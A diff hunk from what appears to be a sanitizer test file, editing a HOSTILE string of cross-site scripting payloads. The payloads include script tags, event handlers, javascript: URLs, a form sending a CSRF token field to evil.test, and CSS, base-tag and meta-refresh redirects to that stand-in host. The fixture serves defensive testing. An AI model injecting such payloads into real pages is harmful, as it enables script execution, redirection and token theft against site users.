@@ -38,9 +38,9 @@ See <https://example.org/a?b=c&d> or [there](https://example.org "title").
 Line two"""
 HOSTILE = """<script>document.title = "broken"</script>
 <img src=x onerror="document.title = 'broken'">
-<svg onload="document.title = 'broken'"><math><mi xlink:href="javascript:document.title='broken'">x</mi></math></svg>
+<svg onload="document.title = 'broken'"><math><mi xlink:href="javascript:alert(1)">x</mi></math></svg>
 <iframe srcdoc="<script>parent.document.title = 'broken'</script>"></iframe>
-<form action="https://evil.test"><input name="csrfmiddlewaretoken"><button formaction="javascript:alert(1)">go</button>
+<form action="//evil.test"><input name="csrfmiddlewaretoken"><button formaction="javascript:x">x</button>
 <a href="javascript:document.title='broken'" onclick="document.title='broken'">click</a>
 <style>* { background: url(https://evil.test/) }</style><link rel=stylesheet href=//evil.test/x.css>
 <base href="https://evil.test/"><meta http-equiv=refresh content="0;url=https://evil.test/">
